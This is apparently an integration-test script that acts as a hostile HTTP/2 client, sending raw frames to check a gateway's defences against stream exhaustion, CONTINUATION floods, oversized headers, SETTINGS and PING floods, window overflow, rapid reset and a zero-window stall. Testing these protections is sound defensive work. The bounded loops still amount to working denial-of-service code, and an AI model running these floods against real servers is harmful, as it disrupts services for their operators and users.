#!/usr/bin/python3
"""tests/integration/h2_hostile.py - a hostile HTTP/2 (h2c) client writing raw
frames, for test_h2_protections.sh.

Usage: h2_hostile.py HOST PORT ATTACK [PATH]

Attacks:
  streams       opens 400 streams that never end (HEADERS without END_STREAM)
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames forever
  headers       40 requests, each with a 40 KB header list (over the limit)
  settings      SETTINGS frames in a loop (reading the ACKs)
  ping          PING frames in a loop (reading the ACKs)
  ping_noread   PING frames in a loop, never reading the ACKs
  window        a DATA frame larger than the stream window
  reset         rapid reset: 1000 streams opened and cancelled at once
  stall         SETTINGS_INITIAL_WINDOW_SIZE 0, 100 GETs of PATH, then holds
                the connection (reading nothing) until stdin closes

Prints one line: "goaway CODE" when the server sent GOAWAY (CODE: its error
code), else "rst CODE,..." (the RST_STREAM codes received), else "closed"
(connection closed without GOAWAY) or "open" (still open after the attack
and 5 s of waiting). Every loop is bounded.
"""
import os
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


def hint(v, prefix):
    """HPACK integer with a prefix of `prefix` bits (RFC 7541 5.1)"""
    lim = (1 << prefix) - 1
    if v < lim:
        return bytes([v])
    out = [lim]
    v -= lim
    while v >= 128:
        out.append(v % 128 + 128)
        v //= 128
    out.append(v)
    return bytes(out)


def lit(name, value):
    """literal header field without indexing, new name, no Huffman"""
    return b"\x00" + hint(len(name), 7) + name + hint(len(value), 7) + value


def req_block(path=b"/", extra=()):
    b = lit(b":method", b"GET") + lit(b":scheme", b"http") + lit(b":path", path)
    b += lit(b":authority", b"hostile.test")
    for n, v in extra:
        b += lit(n, v)
    return b


class Conn:
    def __init__(self, host, port):
        self.s = socket.create_connection((host, port), timeout=5)
        self.buf = b""
        self.goaway = None
        self.rst = set()  # RST_STREAM error codes received
        self.closed = False     # nothing more to read
        self.send_failed = False
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """false once the server stopped reading (what it sent before is
        still read by pump)"""
        if self.send_failed or self.goaway is not None:
            return False
        try:
            self.s.sendall(data)
            return True
        except OSError:
            self.send_failed = True
            return False

    def pump(self, wait=0.0):
        """reads what is there (up to `wait` seconds for the first byte)"""
        end = time.time() + wait
        while not self.closed:
            left = max(0.0, end - time.time())
            r, _, _ = select.select([self.s], [], [], left)
            if not r:
                return
            try:
                d = self.s.recv(1 << 20)
            except OSError:
                d = b""
            if not d:
                self.closed = True
                return
            self.buf += d
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                t, p = self.buf[3], self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                if t == GOAWAY and len(p) >= 8:
                    self.goaway = int.from_bytes(p[4:8], "big")
                if t == RST and len(p) >= 4:
                    self.rst.add(int.from_bytes(p[:4], "big"))
            end = time.time()  # after the first read, only what is queued

    def finish(self):
        end = time.time() + 5
        while not self.closed and self.goaway is None and time.time() < end:
            self.pump(0.2)
        if self.goaway is not None:
            print("goaway %d" % self.goaway)
        elif self.rst:
            print("rst " + ",".join(str(x) for x in sorted(self.rst)))
        elif self.closed:
            print("closed")
        else:
            print("open")


def main():
    host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    path = sys.argv[4].encode() if len(sys.argv) > 4 else b"/"
    c = Conn(host, port)
    c.pump(0.5)
    sid = 1
    if attack == "streams":
        for i in range(400):
            if not c.send(frame(HEADERS, END_HEADERS, sid, req_block(path))):
                break
            sid += 2
            # read as we go: a client that never reads fills its receive
            # window, the GOAWAY then waits in the server's send queue and
            # is lost to the RST of a close with our unread HEADERS behind
            # it (TCP semantics, not the gateway's choice)
            c.pump(0.05 if i % 50 == 0 else 0.0)
    elif attack == "continuation":
        c.send(frame(HEADERS, 0, 1, req_block(path)))
        for i in range(5000):
            if not c.send(frame(CONT, 0, 1, lit(b"x-flood-%d" % i, b"v" * 64))):
                break
            if i % 100 == 0:
                c.pump(0.01)
                if c.goaway is not None or c.closed:
                    break
    elif attack == "headers":
        big = [(b"x-big-%d" % k, b"a" * 4000) for k in range(10)]
        for i in range(40):
            blk = req_block(path, big)
            # HEADERS + CONTINUATION in 16 KB pieces (the default frame size)
            parts = [blk[k:k + 16000] for k in range(0, len(blk), 16000)]
            data = b""
            for k, part in enumerate(parts):
                last = k == len(parts) - 1
                t = HEADERS if k == 0 else CONT
                fl = (END_HEADERS if last else 0) | (END_STREAM if k == 0 else 0)
                data += frame(t, fl, sid, part)
            if not c.send(data):
                break
            sid += 2
            c.pump(0.02)
            if c.goaway is not None or c.closed:
                break
    elif attack in ("settings", "ping", "ping_noread"):
        for i in range(20000):
            f = frame(SETTINGS, 0, 0) if attack == "settings" else \
                frame(PING, 0, 0, struct.pack(">Q", i))
            if not c.send(f * 10):
                break
            if attack != "ping_noread" and i % 10 == 0:
                c.pump(0.0)
                if c.goaway is not None or c.closed:
                    break
    elif attack == "window":
        c.send(frame(HEADERS, END_HEADERS, 1, req_block(path, [(b"content-length", b"200000")])))
        for _ in range(13):  # 13 x 16000 bytes > the 65535-byte stream window
            c.send(frame(DATA, 0, 1, b"w" * 16000))
    elif attack == "reset":
        for i in range(1000):
            data = frame(HEADERS, END_HEADERS | END_STREAM, sid, req_block(path)) + \
                frame(RST, 0, sid, struct.pack(">I", 8))
            if not c.send(data):
                break
            sid += 2
            if i % 50 == 0:
                c.pump(0.0)
                if c.goaway is not None or c.closed:
                    break
    elif attack == "stall":
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        for i in range(100):
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, req_block(path)))
            sid += 2
        print("stalled", flush=True)
        # hold (reading nothing) until the test closes stdin, at most 60 s
        select.select([sys.stdin], [], [], 60)
        os._exit(0)
    else:
        print("unknown attack", attack, file=sys.stderr)
        sys.exit(2)
    c.finish()


if __name__ == "__main__":
    main()
